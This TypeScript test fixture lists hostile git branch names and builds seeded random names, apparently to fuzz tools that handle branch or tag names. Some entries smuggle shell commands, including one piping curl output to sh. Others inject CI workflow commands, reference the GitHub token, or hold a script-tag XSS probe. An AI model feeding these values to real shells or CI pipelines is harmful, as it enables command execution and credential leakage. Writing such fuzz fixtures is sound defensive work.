import { createHash } from 'node:crypto';

/** Names that git allows, but for those with ":" or "[", and that are hard on everything else. */
export const nastyNames: readonly string[] = [
  'feature/$(curl${IFS}x|sh)',
  'feature/`id`',
  'feature/{a,b}',
  'a&&touch${IFS}canary',
  'a;touch${IFS}canary',
  '$(touch${IFS}canary)',
  'a|tee${IFS}canary',
  'a>canary',
  "a'b",
  'a"b',
  '%0A::set-output%20name=tag::evil',
  'a%0Atag=evil',
  '::error::x',
  '##[error]x',
  'feature/größe-ß-日本語-😀',
  '\u202Eevil',
  'x'.repeat(250),
  `${'x/'.repeat(120)}x`,
  '_wip/foo',
  'feature/foo!',
  'feature/--push',
  '--help',
  '###',
  '-',
  '=',
  '&',
  'a@b',
  '<script>alert(1)</script>',
  '${{github.token}}',
  'ſtrasse-İ-K',
  '__proto__',
  'constructor',
];

const alphabet = Array.from('abcdefghijklmnopqrstuvwxyzABCXYZ0123456789._-/#!$(){}&%`\'"|;<>=+,@ßé日😀');

/** Makes `count` names from a seed, the same ones every time. Many are longer than a tag may be. */
export function randomNames(count: number, seed: number): readonly string[] {
  return Array.from({ length: count }, (_, index) => {
    const bytes = createHash('sha256').update(`${seed}/${index}`).digest();
    const length = 1 + (bytes.readUInt16BE(0) % 250);
    let name = '';
    for (let at = 0; at < length; at++) {
      const value = (bytes[2 + (at % 30)] ?? 0) * 31 + at * (bytes[31] ?? 0);
      name += alphabet[value % alphabet.length] ?? 'x';
    }
    return name;
  });
}
